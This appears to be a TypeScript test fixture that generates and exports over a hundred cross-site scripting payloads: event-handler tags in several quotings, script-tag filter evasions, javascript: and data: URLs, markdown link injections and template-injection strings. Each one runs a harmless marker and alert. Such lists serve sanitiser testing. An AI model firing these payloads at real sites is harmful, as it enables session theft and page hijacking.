/** What runs if any of these is ever taken for markup, a URL or a template: it marks the page and opens a dialog. */
const run = 'window.pwned=1;alert(1)';

const handlers = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['a href=# autofocus', 'onfocus'],
  ['div style="animation:x"', 'onanimationstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
] as const;

const quotings = [
  (tag: string, on: string) => `<${tag} ${on}=${run}>`,
  (tag: string, on: string) => `<${tag} ${on}="${run}">`,
  (tag: string, on: string) => `"><${tag} ${on}='${run}'>`,
  (tag: string, on: string) => `'/><${tag}/${on}=${run}//`,
  (tag: string, on: string) => `</p></span></title><${tag.toUpperCase()} ${on.toUpperCase()}=${run}>`,
];

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `<script src=data:,${run}></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<link rel=stylesheet href=javascript:${run}>`,
  `<base href=javascript:${run}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src=javascript:parent.${run}></iframe>`,
  `<embed src=javascript:${run}>`,
  `<form action=javascript:${run}><button autofocus>x</button></form>`,
  `<isindex action=javascript:${run}>`,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript://example.com/%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `<a href="javascript:${run}">click</a>`,
  `[click](javascript:${run})`,
  `![x](x" onerror="${run})`,
  `https://example.com/"onmouseover="${run}`,
  `https://example.com/'><img src=x onerror=${run}>`,
  `http://javascript:${run}@example.com/`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `__proto__`,
  `constructor`,
  `"};${run};//`,
  `@all <img src=x onerror=${run}>`,
];

/** More than a hundred ways in. */
export const payloads: string[] = [
  ...handlers.flatMap(([tag, on]) => quotings.map(quote => quote(tag, on))),
  ...scripts,
  ...links,
  ...templates,
];
